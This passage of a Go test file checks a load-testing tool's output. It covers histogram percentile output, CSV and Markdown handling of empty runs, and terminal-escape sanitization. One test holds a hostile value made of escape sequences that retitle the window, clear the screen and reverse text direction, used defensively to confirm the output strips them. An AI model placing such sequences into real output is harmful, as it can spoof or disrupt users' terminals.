		want := "       Value     Percentile TotalCount 1/(1-Percentile)\n\n" +
			"#[Mean    =        0.000, StdDeviation   =        0.000]\n" +
			"#[Max     =        0.000, Total count    =            0]\n" +
			"#[Buckets =           22, SubBuckets     =         2048]\n"
		if out != want {
			t.Errorf("empty histogram:\n%s\nwant:\n%s", out, want)
		}
	}
}

// checkHGRM parses a percentile distribution as plotters do and checks
// it against h: rows ascend in value and percentile, the last one counts
// every value at 100 %, the p50 row is h's median, the rows around 0.99
// bracket h's p99, and rows and footer agree with hdrhistogram-go's own
// PercentilesPrint.
func checkHGRM(t *testing.T, out []byte, h *hdrhistogram.Histogram) {
	t.Helper()
	type row struct {
		value, fraction float64
		count           int64
	}
	parse := func(text string, inf string) (rows []row, footer []string) {
		for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
			f := strings.Fields(line)
			switch {
			case strings.HasPrefix(line, "#"):
				footer = append(footer, line)
			case len(f) == 0 || f[0] == "Value":
			case len(f) == 4 || len(f) == 3:
				v, err1 := strconv.ParseFloat(f[0], 64)
				p, err2 := strconv.ParseFloat(f[1], 64)
				n, err3 := strconv.ParseInt(f[2], 10, 64)
				if err1 != nil || err2 != nil || err3 != nil {
					t.Fatalf("row %q does not parse", line)
				}
				if len(f) == 4 && f[3] != inf {
					if inv, err := strconv.ParseFloat(f[3], 64); err != nil || math.Abs(inv-1/(1-p)) > 0.01*inv {
						t.Errorf("row %q: 1/(1-Percentile) = %s", line, f[3])
					}
				}
				rows = append(rows, row{v, p, n})
			default:
				if strings.HasPrefix(line, " Value\t") { // PercentilesPrint's header
					continue
				}
				t.Fatalf("line %q is neither row nor footer", line)
			}
		}
		return rows, footer
	}
	lines := strings.Split(string(out), "\n")
	if lines[0] != "       Value     Percentile TotalCount 1/(1-Percentile)" || lines[1] != "" {
		t.Errorf("header %q, %q", lines[0], lines[1])
	}
	rows, footer := parse(string(out), "")
	if len(rows) == 0 {
		t.Fatal("no row")
	}
	for i := 1; i < len(rows); i++ {
		if rows[i].value < rows[i-1].value || rows[i].fraction < rows[i-1].fraction || rows[i].count < rows[i-1].count {
			t.Errorf("row %d %+v after %+v: not ascending", i, rows[i], rows[i-1])
		}
	}
	last := rows[len(rows)-1]
	if last.count != h.TotalCount() || last.fraction != 1 || last.value != float64(h.Max())/1000 {
		t.Errorf("last row %+v; want %d values at 1.0, max %v", last, h.TotalCount(), float64(h.Max())/1000)
	}
	for _, r := range rows[:len(rows)-1] {
		if r.fraction == 1 {
			t.Errorf("row %+v at 100 %% before the last", r)
		}
	}
	ms := func(q float64) float64 { return float64(h.ValueAtQuantile(q)) / 1000 }
	for i, r := range rows {
		if r.fraction == 0.5 && r.value != ms(50) {
			t.Errorf("p50 row %+v; ValueAtQuantile(50) = %v ms", r, ms(50))
		}
		if r.fraction >= 0.99 && (i == 0 || rows[i-1].fraction < 0.99) {
			if ms(99) > r.value || i > 0 && ms(99) < rows[i-1].value {
				t.Errorf("rows %+v, %+v do not bracket ValueAtQuantile(99) = %v ms", rows[i-1], r, ms(99))
			}
		}
	}

	var lib bytes.Buffer
	if _, err := h.PercentilesPrint(&lib, HGRMTicksPerHalfDistance, 1000); err != nil {
		t.Fatal(err)
	}
	libRows, libFooter := parse(lib.String(), "inf")
	if strings.Join(footer, "\n") != strings.Join(libFooter, "\n") {
		t.Errorf("footer\n%s\nwant PercentilesPrint's\n%s", strings.Join(footer, "\n"), strings.Join(libFooter, "\n"))
	}
	if len(libRows) != len(rows) {
		t.Fatalf("%d rows; PercentilesPrint has %d", len(rows), len(libRows))
	}
	for i := range rows {
		if rows[i].value != libRows[i].value || rows[i].count != libRows[i].count || math.Abs(rows[i].fraction-libRows[i].fraction) > 1e-6 {
			t.Errorf("row %d %+v; PercentilesPrint's %+v", i, rows[i], libRows[i])
		}
	}
}

// TestFormatsEmptyRun: every format copes with a run without requests.
func TestFormatsEmptyRun(t *testing.T) {
	run := analyze.Run{Summary: analyze.NewSummary()}
	if rows := readCSVRows(t, renderFormat(t, func(b *bytes.Buffer) error { return CSV(b, run) }), csvColumns); len(rows) != 0 {
		t.Errorf("CSV of an empty run has rows: %q", rows)
	}
	if rows := readCSVRows(t, renderFormat(t, func(b *bytes.Buffer) error { return CSVSeries(b, run) }), csvSeriesColumns); len(rows) != 0 {
		t.Errorf("CSVSeries of an empty run has rows: %q", rows)
	}
	md := renderFormat(t, func(b *bytes.Buffer) error { return Markdown(b, run) })
	if !bytes.HasPrefix(md, []byte("### ❌ stampede: FAIL — no request was made\n")) || bytes.Contains(md, []byte("| Status |")) {
		t.Errorf("Markdown of an empty run:\n%s", md)
	}
	checkMarkdownTables(t, md)
}

// TestCSVNoTerminalEscapes: csv and csv-series go to stdout, often a
// terminal, so a class's code cannot carry an escape sequence there
// (retitling the window, clearing the screen) nor any other control or
// format character.
func TestCSVNoTerminalEscapes(t *testing.T) {
	const hostile = "\x1b]0;pwned\x07\x1b[2J\r\u202eRED\x7f\u0085"
	s := analyze.NewSummary()
	t0 := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	id := s.ImportClass(records.Class{Status: 500, Category: records.CatServerError, Code: hostile, Pattern: hostile, Message: hostile}, nil)
	s.Add(&records.Record{Seq: 1, Scheduled: t0, Latency: time.Millisecond, Status: 500, ErrorCode: hostile, Class: id})
	run := analyze.Run{Summary: s}
	for name, render := range map[string]func(*bytes.Buffer) error{
		"csv":        func(b *bytes.Buffer) error { return CSV(b, run) },
		"csv-series": func(b *bytes.Buffer) error { return CSVSeries(b, run) },
	} {
		out := renderFormat(t, render)
		body := strings.ReplaceAll(string(out), "\r\n", "\n")
		for _, r := range body {
			if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Errorf("%s holds the control or format character %U:\n%q", name, r, body)
				break
			}
		}
		if !strings.Contains(body, "pwned") || !strings.Contains(body, "RED") {
			t.Errorf("%s lost the printable text:\n%q", name, body)
		}
	}
}
